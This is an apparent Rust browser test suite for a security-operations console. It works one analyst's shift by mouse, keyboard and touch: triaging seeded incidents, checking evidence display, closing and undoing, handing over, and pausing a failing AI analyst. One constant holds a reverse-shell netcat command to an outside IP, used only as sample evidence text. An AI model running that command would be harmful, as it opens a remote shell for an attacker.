//! A shift worked from its first incident to its handover, by one kind of input
//! alone: real input events, so that what is hidden, covered or too small
//! fails.

use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};
use watchtower::domain::finding::{Finding, Severity};
use watchtower::record::Record;
use watchtower::record::settings::StoreSettings;

use crate::common::chromium::Chromium;
use crate::common::encoder::Encoder;
use crate::common::serve::{Setup, TestServer};
use crate::console::fixture::{js, noticed, opened, reported};
use crate::console::proof::{ROWS, piece, publication, still};

/// An analyst whose model is unreachable, and one that works.
const ANALYSTS: &str = "[model]\nprovider = \"gemini\"\nname = \"gemini-3.8-flash\"\n\
    [[agent]]\nname = \"Remote\"\npersonality = \"Calm.\"\nfocus = \"Logins.\"\ninterval = \"2s\"\n\
    [[agent]]\nname = \"Local\"\npersonality = \"Calm.\"\nfocus = \"Logins.\"\ninterval = \"2s\"\nmodel = \"offline\"\n";
/// Port of discard, where nothing listens.
const NOWHERE: &str = "http://127.0.0.1:9";

/// Title, age in minutes and severity of each incident.
const BEFORE: [(&str, i64, Severity); 4] = [
    ("Disk full", 110, Severity::Medium),
    ("Slow login", 40, Severity::Critical),
    ("Brute force", 8, Severity::High),
    ("Reverse shell", 3, Severity::Critical),
];
const PROOF: &str = "nc -e /bin/sh 203.0.113.45 4444";

#[derive(Debug, Clone, Copy, PartialEq)]
enum Hand {
    Mouse,
    Keyboard,
    Touch,
}

struct ShiftWalk {
    server: TestServer,
    browser: Chromium,
    hand: Hand,
    _publisher: Encoder,
}

/// Server that has these incidents, each with a still of its evidence.
async fn server() -> TestServer {
    let setup = Setup::new()
        .agents(ANALYSTS)
        .env("GOOGLE_API_KEY", "AIzaFakeKeyOfTheTests0123456789abcdefgh")
        .env("GOOGLE_GEMINI_BASE_URL", NOWHERE);
    let folder = setup.folder.path();
    let (record, writer) = Record::open(
        &folder.join("data"),
        &folder.join("logs"),
        &[],
        &StoreSettings::default(),
    )
    .unwrap();
    for (number, (title, age, severity)) in BEFORE.into_iter().enumerate() {
        let mut finding: Finding = serde_json::from_value(reported(number, title)).unwrap();
        finding.observed_at = Timestamp::now() - SignedDuration::from_mins(age);
        finding.severity = severity;
        let quote = finding.evidence[0].quote.clone();
        let mut evidence = vec![piece(&quote, Some(ROWS[0]), true)];
        if title == "Reverse shell" {
            evidence.push(piece(PROOF, Some(ROWS[2]), true));
        }
        let publication = publication(finding, &still(&ROWS), evidence);
        record.publish(publication).await.unwrap();
    }
    drop(record);
    tokio::task::spawn_blocking(move || writer.join().unwrap())
        .await
        .unwrap();
    setup.start().await
}

impl ShiftWalk {
    async fn begin(hand: Hand) -> Self {
        let server = server().await;
        // A live stream, without which no analyst asks its model.
        let publisher = Encoder::ffmpeg(&server.rtmp_url("live/team"), &["-s", "1280x720"]);
        let browser = opened(&server, "/").await;
        if hand == Hand::Touch {
            browser.touch_screen(390, 844).await;
        }
        browser
            .run("localStorage.setItem('watchtower.who', 'Ann')")
            .await;
        // What a finger aims at stays in place from then on.
        let settled = "!document.querySelector('#pulse').hidden && document.querySelector('#state').dataset.is === 'live'";
        browser.until_true(30, settled).await;
        Self {
            server,
            browser,
            hand,
            _publisher: publisher,
        }
    }

    /// Clicks or taps an element, or strikes the keys for it.
    async fn press(&self, selector: &str, keys: &[&str]) {
        match self.hand {
            Hand::Mouse => self.browser.click(selector).await,
            Hand::Touch => self.browser.tap(selector).await,
            Hand::Keyboard => {
                for key in keys {
                    self.browser.strike(key, false).await;
                }
            }
        }
    }

    async fn is_true(&self, expression: &str) {
        self.browser.until_true(10, expression).await;
    }

    /// Moves the focus with Tab until it is where it should be.
    async fn tab_to(&self, selector: &str) {
        let there = format!("document.activeElement.matches({})", js(selector));
        for _ in 0..60 {
            if self.browser.run(&there).await == true {
                return;
            }
            self.browser.strike("Tab", false).await;
        }
        panic!("{selector} is not reached by Tab");
    }

    /// Runs the first command of the palette that these letters leave.
    async fn command(&self, letters: &str, name: &str) {
        self.browser.strike("k", true).await;
        self.is_true("document.activeElement.id === 'command'")
            .await;
        for letter in letters.chars() {
            self.browser.strike(&letter.to_string(), false).await;
        }
        let first = format!(
            "document.querySelector('#commandlist [aria-selected=true] span')?.textContent === {}",
            js(name)
        );
        self.is_true(&first).await;
        self.browser.strike("Enter", false).await;
    }

    /// Status of an incident, and the number of suppressions, once they are these.
    async fn until_state(&self, id: &str, expected: Value) {
        self.server
            .until(&expected.to_string(), async |server| {
                let incident = server.json(&format!("/api/incidents/{id}")).await;
                let suppressions = server.json("/api/suppressions").await;
                let count = suppressions["items"].as_array()?.len();
                (json!([incident["status"], count]) == expected).then_some(())
            })
            .await;
    }

    /// Waits until the list has these of the incidents above, in this order.
    async fn lists(&self, titles: &[&str]) {
        let known: Vec<_> = BEFORE.iter().map(|(title, ..)| *title).collect();
        let shown = format!(
            "[...document.querySelectorAll('#triage li a')].map((one) => one.textContent)\
             .filter((title) => {}.includes(title)).join() === {}",
            json!(known),
            js(&titles.join(","))
        );
        self.is_true(&shown).await;
    }

    /// Finds what began in the last ten minutes; the id of the worst.
    async fn find_recent(&self) -> String {
        match self.hand {
            Hand::Keyboard => self.command("incid", "Go to Incidents").await,
            _ => self.press("#views [data-view=incidents]", &[]).await,
        }
        self.lists(&["Reverse shell", "Slow login", "Brute force", "Disk full"])
            .await;
        if self.hand == Hand::Touch {
            // The list is what is seen first.
            let top = "document.querySelector('#triage li').getBoundingClientRect().top";
            let top = self.browser.run(top).await.as_f64().unwrap();
            assert!(top < 0.36 * 844.0, "the first row is {top} pixels down");
        }
        self.press("#range", &["t"]).await;
        if self.hand == Hand::Keyboard {
            self.is_true("document.activeElement.dataset.range === ''")
                .await;
            self.tab_to("[data-range='10m']").await;
        }
        self.press("#ranges [data-range='10m']", &["Enter"]).await;
        self.lists(&["Reverse shell", "Brute force"]).await;
        let row = "[...document.querySelectorAll('#triage li')].find((one) => one.textContent.includes('Reverse shell')).dataset.id";
        self.browser.run(row).await.as_str().unwrap().to_owned()
    }

    /// Opens the incident, whose picture has boxes where the proof is.
    async fn see_proof(&self, id: &str) {
        match self.hand {
            Hand::Keyboard => {
                // Keys act on the list again.
                let current = "document.querySelector('#triage [aria-current] a')?.textContent";
                for (key, title) in [("j", "Brute force"), ("k", "Reverse shell")] {
                    self.browser.strike(key, false).await;
                    self.is_true(&format!("{current} === {}", js(title))).await;
                }
                self.browser.strike("Enter", false).await;
            }
            Hand::Mouse => {
                self.browser
                    .click(&format!("#triage [data-id='{id}'] a"))
                    .await;
            }
            // A finger finds the row, not its title alone.
            Hand::Touch => {
                self.browser.tap(&format!("#triage [data-id='{id}']")).await;
            }
        }
        let quoted = format!(
            "[...document.querySelectorAll('#incident .quote q')].some((one) => one.textContent === {})",
            js(PROOF)
        );
        self.is_true(&quoted).await;
        self.is_true("document.querySelector('#incident .proof img')?.naturalWidth === 1920")
            .await;
        let boxed = "(() => { \
            const picture = document.querySelector('#incident .proof img').getBoundingClientRect(); \
            const boxes = [...document.querySelectorAll('#incident .proof .box')].filter((one) => one.checkVisibility()).map((one) => one.getBoundingClientRect()); \
            return boxes.length === 2 && boxes.every((one) => one.width > 0 && one.height > 0 && one.left >= picture.left \
                && one.right <= picture.right && one.top >= picture.top && one.bottom <= picture.bottom); })()";
        self.is_true(boxed).await;
    }

    /// Acknowledges it, closes it as a false positive, and undoes that.
    async fn decide(&self, id: &str) {
        self.press("#incident .toolbar [data-key=a]", &["a"]).await;
        self.until_state(id, json!(["acknowledged", 0])).await;
        noticed(&self.browser, "Acknowledged: ").await;
        self.press("#incident .toolbar [data-key=f]", &["f"]).await;
        self.is_true("document.querySelector('#ask[open] [name=why]') !== null")
            .await;
        self.press("#ask button[value=ok]", &["Enter"]).await;
        self.until_state(id, json!(["closed", 1])).await;
        noticed(&self.browser, "Closed as false positive: ").await;
        self.press("#undo", &["u"]).await;
        self.until_state(id, json!(["acknowledged", 0])).await;
        noticed(&self.browser, "Undone").await;
    }

    /// Hands the shift over, with a message where there is something to type on.
    async fn hand_over(&self) {
        self.press("#views [data-view=handover]", &["6"]).await;
        let report = "document.querySelector('#report')?.textContent";
        self.is_true(&format!("{report}.includes('Reverse shell')"))
            .await;
        let message = match self.hand {
            Hand::Mouse => "",
            Hand::Keyboard | Hand::Touch => "watch web",
        };
        match self.hand {
            Hand::Mouse => {}
            Hand::Keyboard => {
                self.tab_to("#handing textarea").await;
                for letter in message.chars() {
                    self.browser.strike(&letter.to_string(), false).await;
                }
                self.tab_to("#hand-over").await;
            }
            Hand::Touch => {
                self.browser.tap("#handing textarea").await;
                self.browser.insert(message).await;
            }
        }
        self.press("#hand-over", &["Enter"]).await;
        let made = self
            .server
            .until("the shift is handed over", async |server| {
                let list = server.json("/api/handovers").await;
                list["items"].get(0).cloned()
            })
            .await;
        assert_eq!(
            (&made["by"], &made["message"]),
            (&json!("Ann"), &json!(message))
        );
        self.is_true("document.querySelector('#handovers li[data-open=true] button') !== null")
            .await;
    }

    /// Finds the analyst that is down, and no other.
    async fn find_down(&self) {
        let mark = "document.querySelector('#pulse').textContent";
        self.browser
            .until_true(60, &format!("{mark}.includes('Analysts 1/2')"))
            .await;
        match self.hand {
            Hand::Keyboard => self.command("health", "Health").await,
            _ => self.press("#pulse", &[]).await,
        }
        let down = "[...document.querySelectorAll('#parts:popover-open li')].filter((one) => / down since /.test(one.textContent)) \
            .map((one) => one.querySelector('b').textContent).join()";
        self.is_true(&format!("{down} === 'Remote'")).await;
        let health = self.server.json("/api/health").await;
        let items = health["items"].as_array().unwrap().iter();
        let analysts: Vec<_> = items
            .filter(|item| item["kind"] == "analyst")
            .map(|item| (item["name"].clone(), item["health"] == "down"))
            .collect();
        assert_eq!(analysts, [(json!("Remote"), true), (json!("Local"), false)]);
    }

    /// Pauses it.
    async fn mute(&self) {
        if self.hand == Hand::Keyboard {
            self.browser.strike("Escape", false).await;
            self.is_true("document.querySelector('#parts:popover-open') === null")
                .await;
        }
        self.press("#views [data-view=panel]", &["3"]).await;
        let pause = "#columns section[aria-label=Remote] [data-act=pause]";
        self.is_true(&format!("document.querySelector({}) !== null", js(pause)))
            .await;
        match self.hand {
            Hand::Keyboard => self.command("pause", "Pause analyst Remote").await,
            _ => self.press(pause, &[]).await,
        }
        self.server
            .until("Local alone is enabled", async |server| {
                let page = server.json("/api/agents").await;
                let items = page["items"].as_array()?.iter();
                let enabled = items.filter(|item| item["enabled"] == true);
                let names: Vec<_> = enabled.filter_map(|item| item["name"].as_str()).collect();
                (names == ["Local"]).then_some(())
            })
            .await;
        noticed(&self.browser, "Analyst Remote paused").await;
    }

    /// On a touch screen everything is large enough for a thumb, and nothing is
    /// beyond the edge.
    async fn fits(&self) {
        if self.hand != Hand::Touch {
            return;
        }
        let small = "[...document.querySelectorAll('button, select, a:not(#triage a, main a), #triage li, .pick')].filter((one) => one.checkVisibility()) \
            .filter((one) => one.getBoundingClientRect().height < 44).map((one) => one.outerHTML)";
        assert_eq!(self.browser.run(small).await, json!([]));
        let width = "document.documentElement.scrollWidth";
        assert_eq!(self.browser.run(width).await, 390);
    }
}

async fn work_a_shift(hand: Hand) {
    let walk = ShiftWalk::begin(hand).await;
    let id = walk.find_recent().await;
    walk.fits().await;
    walk.see_proof(&id).await;
    walk.decide(&id).await;
    walk.fits().await;
    walk.hand_over().await;
    walk.fits().await;
    walk.find_down().await;
    walk.mute().await;
    walk.fits().await;
    walk.browser.close().await;
}

#[tokio::test]
async fn shift_is_worked_with_a_mouse_alone() {
    work_a_shift(Hand::Mouse).await;
}

#[tokio::test]
async fn shift_is_worked_with_the_keyboard_alone() {
    work_a_shift(Hand::Keyboard).await;
}

#[tokio::test]
async fn shift_is_worked_on_a_touch_screen() {
    work_a_shift(Hand::Touch).await;
}
